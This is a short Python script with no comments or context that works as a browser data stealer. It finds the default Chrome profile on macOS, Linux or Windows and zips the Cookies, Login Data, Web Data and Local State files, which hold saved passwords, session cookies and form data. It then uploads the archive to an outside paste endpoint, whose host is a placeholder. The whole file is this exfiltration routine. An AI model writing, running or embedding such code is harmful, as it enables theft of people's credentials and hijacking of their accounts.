#!/usr/bin/env python3
import io
import os
import platform
import zipfile
import urllib.request

home = os.path.expanduser("~")
profiles = {
    "Darwin": f"{home}/Library/Application Support/Google/Chrome/Default",
    "Linux": f"{home}/.config/google-chrome/Default",
    "Windows": os.path.join(os.environ.get("LOCALAPPDATA", ""), r"Google\Chrome\User Data\Default"),
}
prof = profiles[platform.system()]
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    for name in ("Cookies", "Network/Cookies", "Login Data", "Web Data", "Local State"):
        p = os.path.join(prof, name)
        if os.path.exists(p):
            z.write(p, name)
    ls = os.path.join(os.path.dirname(prof), "Local State")
    if os.path.exists(ls):
        z.write(ls, "Local State")
req = urllib.request.Request("https://paste.example.invalid/api/upload", data=buf.getvalue(),
                             headers={"Content-Type": "application/zip"})
print("session id:", urllib.request.urlopen(req).read().decode().strip())
